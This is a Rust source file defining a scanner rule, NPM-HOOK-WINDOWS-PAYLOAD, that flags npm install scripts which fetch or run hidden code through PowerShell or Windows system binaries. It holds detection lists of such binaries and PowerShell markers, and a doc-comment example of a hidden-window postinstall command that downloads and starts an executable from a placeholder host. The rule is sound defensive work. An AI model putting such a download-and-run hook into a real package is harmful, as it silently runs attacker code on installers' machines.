//! NPM-HOOK-WINDOWS-PAYLOAD: an install script that fetches or runs hidden code through
//! PowerShell or a Windows system binary.

use ossprey_model::{Category, Finding, Severity};

use super::common::install_commands;
use crate::{Input, Rule};

/// ## What it does
/// Reads each npm install script (`preinstall`, `install`, `postinstall`, and the shell
/// files they run) for Windows download-and-run shapes: PowerShell with an encoded
/// command (`-enc`), a hidden window, `Invoke-Expression`/`IEX`, `Invoke-WebRequest`,
/// `Net.WebClient`, `DownloadString`/`DownloadFile`, `Start-Process`,
/// `Start-BitsTransfer`; or system binaries abused to fetch and run code (`mshta`,
/// `certutil -urlcache`, `bitsadmin /transfer`, `rundll32`, `regsvr32`, `wscript`,
/// `cscript`): critical for PowerShell with those markers and for a system binary given
/// a URL or network path, high for a system binary otherwise.
///
/// ## Why is this bad?
/// Install scripts build native code or print a message; they have no reason to hide a
/// window, decode a command or pull an executable with PowerShell. These are the
/// Windows spellings of `curl | sh`.
///
/// ## Example
/// ```json
/// { "scripts": { "postinstall": "powershell -w hidden -c \"iwr https://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe\"" } }
/// ```
#[derive(Debug)]
pub struct HookWindowsPayload;

const POWERSHELL: &[&str] = &["powershell", "pwsh"];

/// System binaries that fetch or run code on an attacker's behalf.
const LOLBINS: &[&str] = &[
    "mshta",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "wscript",
    "cscript",
];

/// Markers in a PowerShell command line that fetch, decode or hide.
const PS_MARKERS: &[&str] = &[
    "-enc",
    "-e ",
    "-encodedcommand",
    "-w hidden",
    "-windowstyle hidden",
    "-win hidden",
    "iex",
    "invoke-expression",
    "invoke-webrequest",
    "iwr ",
    "invoke-restmethod",
    "irm ",
    "net.webclient",
    "downloadstring",
    "downloadfile",
    "start-process",
    "start-bitstransfer",
    "frombase64string",
];

fn program(arg0: &str) -> String {
    let base = arg0.rsplit(['/', '\\']).next().unwrap_or(arg0);
    let base = base.to_ascii_lowercase();
    base.strip_suffix(".exe").map(str::to_owned).unwrap_or(base)
}

impl Rule for HookWindowsPayload {
    fn id(&self) -> &'static str {
        "NPM-HOOK-WINDOWS-PAYLOAD"
    }
    fn category(&self) -> Category {
        Category::DOWNLOAD_EXECUTE
    }
    fn summary(&self) -> &'static str {
        "install script fetches or runs hidden code with PowerShell or a Windows system binary"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for script in install_commands(input) {
            for command in &script.shell.commands {
                let Some(arg0) = command.argv.first() else {
                    continue;
                };
                let prog = program(arg0);
                let rest = command
                    .argv
                    .iter()
                    .skip(1)
                    .map(|a| a.to_ascii_lowercase())
                    .collect::<Vec<_>>()
                    .join(" ")
                    + " ";
                let (severity, what) = if POWERSHELL.contains(&prog.as_str()) {
                    match PS_MARKERS.iter().find(|m| rest.contains(*m)) {
                        Some(m) => (
                            Severity::Critical,
                            format!("PowerShell with `{}`", m.trim()),
                        ),
                        // A plain PowerShell call is left to NPM-HOOK-INLINE-CODE.
                        None => continue,
                    }
                } else if LOLBINS.contains(&prog.as_str()) {
                    // With a URL it fetches code; without one it may register a local
                    // component, which a native package could do.
                    let severity = if rest.contains("http") || rest.contains("\\\\") {
                        Severity::Critical
                    } else {
                        Severity::High
                    };
                    (severity, format!("the Windows system binary `{prog}`"))
                } else {
                    continue;
                };
                out.push(script.finding(
                    self,
                    severity,
                    format!("`{}` script runs {what}", script.name),
                ));
                break;
            }
        }
    }
}
